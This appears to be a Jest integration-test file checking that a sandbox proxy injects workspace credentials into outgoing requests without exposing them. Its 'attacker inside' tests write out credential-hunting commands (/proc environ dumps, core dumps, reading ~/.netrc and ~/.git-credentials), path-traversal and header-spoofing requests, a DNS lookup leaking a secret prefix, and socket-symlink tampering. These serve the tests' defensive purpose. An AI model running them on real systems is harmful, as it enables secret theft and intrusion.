import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { Topics } from '../../../src/platform/topics/index.js';
import {
  CredentialRules,
  credentialsTopic,
  type SandboxCredential,
  type SandboxUser,
} from '../../../src/workspaces/egress/index.js';
import type { Json } from '../../harness/client.js';
import { serveRepositories } from '../../harness/git-server.js';
import { type Person, TestService } from '../../harness/service.js';
import { TlsServers } from '../../harness/tls-servers.js';

const SECRET = 'tok_8d1f-the-secret-of-ada';
const HERS = 'tok_77aa-the-secret-of-bob';

let service: TestService;
let servers: TlsServers;
let api: string;
let forge: string;
let ada: Person;
let bob: Person;
let workspace: string;
let his: string;
let repositories: string;
/** Requests as the servers saw them. */
let seen: { host: string; url: string; method: string; authorization: string | undefined }[];
let used: { path: string; status: number | null; method: string }[];
let rules: (user: SandboxUser) => SandboxCredential[];

function ruleFor(host: string, header: string, secret: string, paths = ['/']): SandboxCredential {
  const [name = '', port] = host.split(':');
  return {
    key: `${host} ${secret} ${paths}`,
    host: name,
    port: Number(port),
    paths,
    header: 'Authorization',
    methods: ['GET', 'POST', 'PUT'],
    connectionId: null,
    variables: ['GITHUB_TOKEN'],
    value: async () => ({ header, secrets: [secret] }),
    used: ({ path, status, method }) => used.push({ path, status, method }),
  };
}

beforeAll(async () => {
  repositories = mkdtempSync(path.join(tmpdir(), 'repositories-'));
  servers = new TlsServers();
  const note = (request: IncomingMessage) => {
    const { url = '', method = '', headers } = request;
    seen.push({ host: headers.host ?? '', url, method, authorization: headers.authorization });
  };
  api = await servers.start('127.0.0.2', (request, response) => {
    note(request);
    answer(request, response);
  });
  const git = serveRepositories(repositories, header => header === basic(SECRET));
  forge = await servers.start('127.0.0.3', (request, response) => {
    note(request);
    git(request, response);
  });
  service = await TestService.start({ OUTGOING_PRIVATE_HOSTS: `${api},${forge}` });
  service.app.get(CredentialRules, { strict: false }).register({ rulesFor: async user => rules(user) });
  [ada, bob] = [await service.person('Ada'), await service.person('Bob')];
  [workspace, his] = [await service.workspace(ada), await service.workspace(bob)];
});
afterAll(async () => {
  await service?.stop();
  servers.stop();
  rmSync(repositories, { recursive: true, force: true });
});
beforeEach(() => {
  [seen, used] = [[], []];
  rules = ({ workspaceId, actor }) => {
    if (!actor) return [];
    if (workspaceId === workspace)
      return [
        ruleFor(api, `Bearer ${SECRET}`, SECRET, ['/v1', '/echo']),
        ruleFor(forge, basic(SECRET), SECRET, ['/tiny.git']),
      ];
    return workspaceId === his ? [ruleFor(api, `Bearer ${HERS}`, HERS)] : [];
  };
});

const basic = (password: string) => `Basic ${Buffer.from(`git:${password}`).toString('base64')}`;

function answer(request: IncomingMessage, response: ServerResponse): void {
  const { url = '', headers } = request;
  if (url.startsWith('/echo')) return void response.end(JSON.stringify(headers));
  response.end(`welcome ${headers['user-agent']?.split('/')[0]}`);
}

async function bash(command: string, person = ada, place = workspace, session?: string): Promise<Json> {
  const { status, body } = await person.client.post(`/api/workspaces/${place}/tools/bash`, {
    input: { command, timeout_seconds: 120 },
    ...(session && { session }),
  });
  if (status !== 200) throw new Error(`bash answered ${status}: ${JSON.stringify(body)}`);
  return body;
}
const output = async (...call: Parameters<typeof bash>): Promise<string> => (await bash(...call)).output;

/** Programs as they are, and what each says of an answer; `there` is a file that it is a part of. */
const programs = () =>
  [
    { name: 'curl', there: '/usr/bin/curl', run: `curl -sS https://${api}/v1/x`, said: 'welcome curl' },
    {
      name: 'fetch of Node.js',
      there: '/',
      run: `NODE_NO_WARNINGS=1 /opt/node/bin/node -e 'fetch("https://${api}/v1/x").then(r => r.text()).then(console.log)' || node -e 'fetch("https://${api}/v1/x").then(r => r.text()).then(console.log)'`,
      said: 'welcome node',
    },
    {
      name: 'urllib of Python',
      there: '/usr/bin/python3',
      run: `python3 -c 'import urllib.request; print(urllib.request.urlopen("https://${api}/v1/x").read().decode())'`,
      said: 'welcome Python-urllib',
    },
    {
      name: 'requests of Python, as pip has it',
      there: '/usr/bin/pip3',
      run: `python3 -c 'from pip._vendor import requests; print(requests.get("https://${api}/v1/x").text)'`,
      said: 'welcome python-requests',
    },
  ].filter(({ there }) => existsSync(there));

describe('a program of a sandbox', () => {
  it('asks as ever, and its request arrives with the credential', async () => {
    for (const { name, run, said } of programs()) {
      seen = [];
      expect([name, await output(run)]).toEqual([name, said]);
      expect([name, seen.map(({ authorization }) => authorization)]).toEqual([name, [`Bearer ${SECRET}`]]);
    }
    expect(programs().length).toBeGreaterThanOrEqual(3);
    expect(used[0]).toEqual({ path: '/v1', status: 200, method: 'GET' });
  });

  it('clones and pushes with git, whose configuration has nothing of it', async () => {
    const bare = path.join(repositories, 'tiny.git');
    execFileSync('git', ['init', '--bare', '--initial-branch=main', bare], { stdio: 'pipe' });
    execFileSync('git', ['-C', bare, 'config', 'http.receivepack', 'true']);
    const script = [
      `git clone -q https://${forge}/tiny.git got 2>/dev/null && cd got`,
      'head -c 3000000 /dev/urandom > large; git add large',
      'git -c user.name=Ada -c user.email=ada@example.org commit -qm first && git push -q origin HEAD:main && echo pushed',
      'cat .git/config; git log --format=%s origin/main',
    ];
    const said = await output(script.join('\n'));
    expect(said).toMatch(/^pushed\n.*first$/s);
    expect(said).toContain(`url = https://${forge}/tiny.git`);
    expect(said).not.toMatch(/tok_|credential|extraheader/i);
    expect(execFileSync('git', ['-C', bare, 'log', '--format=%s', 'main'], { encoding: 'utf8' })).toBe(
      'first\n',
    );
    expect(await output(`git ls-remote https://${forge}/other.git 2>&1`)).toMatch(/403/);
  });

  it('sees placeholders, an authority of its own, and no more than the rules permit', async () => {
    const said = await output('echo $GITHUB_TOKEN; env | grep -c "/run/egress/ca"; ls /run/egress');
    expect(said).toBe('atelier-placeholder\n6\nca-bundle.pem\nca.pem\negress.sock\nrelay.cjs');
    const refused = await bash(`curl -sS https://${api}/v2/x; curl -sS -X DELETE https://${api}/v1/x`);
    expect(refused.output).toMatch(
      /GET of this path of 127.0.0.2 is not permitted from here, only GET, POST, PUT below/,
    );
    expect(refused.output).toMatch(/a person who manages the connection adds the method and the path/);
    expect(refused.output).toMatch(/\nRefused connections: GET of this path/);
    expect(seen).toEqual([]);
    rules = () => [];
    expect(await output('echo [$GITHUB_TOKEN][$SSL_CERT_FILE]; ls /run')).toBe('[][]');
  });

  it('loses what is revoked at once, while it runs', async () => {
    const ask = `curl -sS https://${api}/v1/x`;
    const first = await bash(ask, ada, workspace, 'lasting');
    expect([first.output, seen.at(-1)?.authorization]).toEqual(['welcome curl', `Bearer ${SECRET}`]);
    const before = rules;
    rules = () => [];
    service.app.get(Topics, { strict: false }).publish(credentialsTopic(workspace));
    const until = `until (${ask}) 2>&1 | grep -m1 '403'; do :; done`;
    expect(await output(until, ada, workspace, 'lasting')).toContain('403');
    rules = before;
    service.app.get(Topics, { strict: false }).publish(credentialsTopic(workspace));
    expect(
      await output(`until (${ask}) 2>&1 | grep -m1 welcome; do :; done`, ada, workspace, 'lasting'),
    ).toBe('welcome curl');
  });

  it("of another workspace, at the same time, has that one's credential", async () => {
    const ask = `for i in 1 2 3 4 5; do curl -sS https://${api}/v1/$0; done`;
    await Promise.all([output(ask.replace('$0', 'ada')), output(ask.replace('$0', 'bob'), bob, his)]);
    for (const { url, authorization } of seen)
      expect([url, authorization]).toEqual([url, `Bearer ${url === '/v1/ada' ? SECRET : HERS}`]);
    expect(seen).toHaveLength(10);
  });
});

describe('an attacker inside who knows how it works', () => {
  it('finds no secret: not in variables, processes, files, sockets, memory or the authority', async () => {
    const search = [
      `curl -sS https://${api}/v1/warm >/dev/null`,
      'env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr "\\0" "\\n"',
      'for m in /proc/[0-9]*/maps; do cat $m; done 2>/dev/null | head -5',
      'find /run /tmp /etc /workspace /dev/shm /opt/node -maxdepth 4 -type f -size -2M -exec cat {} + 2>/dev/null',
      'cat /proc/[0-9]*/fd/* </dev/null 2>/dev/null & sleep 0.5; kill $! 2>/dev/null',
      'ulimit -c unlimited; sh -c "kill -SEGV \\$\\$"; find / -name "core*" -type f -newer /etc/hostname 2>/dev/null | head',
      'git config --list --show-origin; cat ~/.netrc ~/.git-credentials ~/.npmrc 2>/dev/null',
      'ls -laR /run/egress',
    ];
    const kept = '| grep -aoE "to[k]_[a-z0-9]+|[B]EGIN CERTIFICATE|[P]RIVATE KEY" | sort -u';
    expect(await output(`(${search.join('\n')}\n) 2>&1 ${kept}`)).toBe('BEGIN CERTIFICATE');
  });

  it('gets no answer that holds it, and sends it to no one else', async () => {
    const tricks = [
      `curl -sS https://${api}/echo`,
      `curl -sS -H 'Accept-Encoding: gzip' https://${api}/echo/x`,
      `curl -sS -X TRACE https://${api}/v1/x`,
      `curl -sS --path-as-is https://${api}/v1/../echo-of-all`,
      `curl -sS --path-as-is https://${api}/v1/..%2fsecret`,
      `curl -sS -H 'Host: 127.0.0.3' https://${api}/v1/x`,
      `curl -sS http://${api}/v1/x`,
      `curl -sSk --noproxy '*' --max-time 2 https://${api}/v1/x`,
      `curl -sSk https://127.0.0.4:${api.split(':')[1]}/v1/x`,
      `curl -sSk https://127.0.0.2:1/v1/x`,
      `curl -sSk --connect-to ${api}:127.0.0.3:${forge.split(':')[1]} https://${api}/v1/x`,
      `curl -sS https://user:pass@${api}/v1/userinfo`,
      `getent hosts ${SECRET.slice(0, 4)}.example; echo dns $?`,
      `rm -f /run/egress/egress.sock; ln -sf /workspace/mine /run/egress/egress.sock; ls /run/egress | head -1`,
    ];
    const said = await output(`exec 2>&1; ${tricks.join('; echo; ')}`);
    expect(said).toContain('the server sent the credential back');
    expect(said).toMatch(/Read-only file system/);
    expect(said).toContain('dns 2');
    expect(said).not.toContain(SECRET);
    expect(said).not.toContain(Buffer.from(SECRET).toString('base64').replace(/=+$/, ''));
    for (const { host, url, authorization } of seen)
      if (authorization?.includes(SECRET))
        expect([host, url]).toEqual([api, expect.stringMatching(/^\/(v1|echo)\b/)]);
    // What the attacker said of itself did not arrive.
    expect(seen.filter(({ authorization }) => authorization?.startsWith('Basic'))).toEqual([]);
  });

  it('gains nothing from a second sandbox of the same workspace, or of another', async () => {
    rules = ({ workspaceId }) =>
      workspaceId === workspace ? [ruleFor(api, `Bearer ${SECRET}`, SECRET)] : [];
    await bash(`cp /run/egress/ca.pem /workspace/stolen.pem; curl -sS https://${api}/v1/x`);
    const elsewhere = await output(
      `echo [$SSL_CERT_FILE]; ls /run/egress 2>&1; curl -sSk --max-time 60 https://${api}/v1/x 2>&1`,
      bob,
      his,
    );
    expect(elsewhere).toMatch(/^\[\]\n.*No such file.*(Failed|Couldn't|Could not|refused)/is);
    // The authority of one sandbox is none of the next: a certificate that it would sign is worth nothing.
    const next = await output(
      'cmp -s /workspace/stolen.pem /run/egress/ca.pem || echo another; curl -sS --cacert /workspace/stolen.pem https://' +
        `${api}/v1/x 2>&1`,
    );
    expect(next).toMatch(/^another\n.*certificate/s);
  });
});
